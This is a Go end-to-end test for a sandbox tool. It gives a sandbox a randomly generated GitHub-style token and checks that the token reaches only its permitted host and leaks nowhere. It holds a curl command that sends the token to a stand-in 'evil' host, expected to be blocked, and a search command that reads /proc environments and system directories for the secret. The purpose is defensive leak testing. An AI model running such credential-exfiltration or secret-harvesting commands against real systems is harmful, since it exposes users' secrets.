package e2e

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestT83ASecretIsNowhere gives a sandbox the use of a secret, has it used, and looks for
// it: in the sandbox, in files and processes of the host, in logs and replies.
func TestT83ASecretIsNowhere(t *testing.T) {
	binaries(t)
	oneByOne(t, reachable(), func(t *testing.T, runtime string) {
		m := onMachine(t, newInternet(t), runtime, "")
		noise := make([]byte, 40)
		rand.Read(noise)
		value := "ghp_" + hex.EncodeToString(noise)
		m.env = append(m.env, "GITHUB_TOKEN="+value)
		id := m.create(t, "--secret", "GITHUB_TOKEN@api.outer.test", "--request", "allow GET evil.outer.test/**", "--allow", "db.outer.test")
		m.env = slices.DeleteFunc(m.env, func(v string) bool { return strings.HasPrefix(v, "GITHUB_TOKEN=") })
		m.stored(t, id, value)

		const use = `curl -fsS -m 20 --cacert /dev/cove/bundle.pem -H "Authorization: %s" https://%s/x`
		output, err := m.inside(t, id, fmt.Sprintf(use, "Bearer $GITHUB_TOKEN", "api.outer.test"))
		if err != nil || !slices.Contains(m.heard(), "api.outer.test: Bearer "+value) {
			t.Errorf("used: %v, %s; the site heard %q", err, output, m.heard())
		}
		if output, err := m.inside(t, id, fmt.Sprintf(use, "Bearer $GITHUB_TOKEN", "evil.outer.test")); err == nil || !strings.Contains(output, "403") {
			t.Errorf("a placeholder that is sent elsewhere: %v: %s", err, output)
		}
		if output, err := m.inside(t, id, `curl -fsS -m 20 -H "Authorization: $GITHUB_TOKEN" http://db.outer.test/`); err == nil {
			t.Errorf("a placeholder in clear text: %s", output)
		}
		if log := m.output(t, "network", "log", id); !strings.Contains(log, "GITHUB_TOKEN") {
			t.Errorf("the log does not name the secret:\n%s", log)
		}
		for _, heard := range m.heard() {
			if strings.Contains(heard, value) && !strings.HasPrefix(heard, "api.outer.test:") {
				t.Errorf("another site heard %q", heard)
			}
		}
		m.nowhere(t, id, value)
	})
}

// stored sets a secret of the daemon's as well, which is used by its name.
func (m *machine) stored(t *testing.T, id, value string) {
	t.Helper()
	set := m.command(t, "secret", "set", "STORED", "--host", "api.outer.test")
	set.Stdin = strings.NewReader(value[:len(value)-1] + "0")
	if output, err := set.CombinedOutput(); err != nil {
		t.Fatalf("secret set: %v: %s", err, output)
	}
	if list := m.output(t, "secret", "ls", "--json"); !strings.Contains(list, "STORED") || strings.Contains(list, value[:30]) {
		t.Errorf("secret ls: %s", list)
	}
}

// nowhere looks for a value wherever somebody might find it.
func (m *machine) nowhere(t *testing.T, id, value string) {
	t.Helper()
	forms := []string{value, value[:len(value)-1] + "0", base64.StdEncoding.EncodeToString([]byte(value))[:40]}
	clean := func(what, text string) {
		for _, form := range forms {
			if strings.Contains(text, form) {
				t.Errorf("%s has the secret", what)
			}
		}
	}
	for _, args := range [][]string{
		{"inspect", "--json", id}, {"network", "show", "--json", id}, {"network", "log", "--json", id}, {"events", "--json", "--since", "0"},
		{"ps", "--json", id}, {"ls", "--json"}, {"secret", "ls", "--json"},
	} {
		output, _ := m.command(t, args...).CombinedOutput()
		clean("cove "+strings.Join(args, " "), string(output))
	}
	search := "grep -rlF -e " + value[:30] + " /workspace /tmp /home /etc /dev/cove /run /var /root 2>/dev/null; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -cF " + value[:20] + "; env"
	inside, _ := m.command(t, "exec", "--timeout", "60s", id, "--", "sh", "-c", strings.ReplaceAll(search, value[:20], "ghp_")+"; true").CombinedOutput()
	clean("the sandbox", strings.ReplaceAll(string(inside), search, ""))
	base := filepath.Dir(m.dirs.State)
	err := filepath.WalkDir(base, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return nil // what went meanwhile, and what only the sandbox sees
		}
		pieces(path, func(piece string) { clean(path, piece) })
		return nil
	})
	if err != nil {
		t.Error(err)
	}
	m.processes(t, clean)
}

// pieces calls f with each part of a file, which overlap a little. Holes are passed over:
// the disks of sandboxes are files of many gigabytes with little in them.
func pieces(path string, f func(piece string)) {
	file, err := os.Open(path)
	if err != nil {
		return // it went meanwhile
	}
	defer file.Close()
	const overlap = 256
	buffer := make([]byte, 1<<20)
	for at := int64(0); ; {
		data, err := unix.Seek(int(file.Fd()), at, unix.SEEK_DATA)
		if err != nil {
			return // no data any more
		}
		n, err := file.ReadAt(buffer, data)
		f(string(buffer[:n]))
		if err != nil {
			return
		}
		at = data + int64(n) - overlap
	}
}

// processes looks at what each process of this machine, but this one, was given.
func (m *machine) processes(t *testing.T, clean func(what, text string)) {
	t.Helper()
	files, err := filepath.Glob("/proc/[0-9]*/environ")
	if err != nil || len(files) < 2 {
		t.Fatalf("%d processes, %v", len(files), err)
	}
	for _, file := range files {
		dir := filepath.Dir(file)
		if filepath.Base(dir) == strconv.Itoa(os.Getpid()) {
			continue
		}
		environ, _ := os.ReadFile(file)
		line, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
		clean(dir, string(bytes.Join([][]byte{environ, line}, []byte{0})))
	}
}
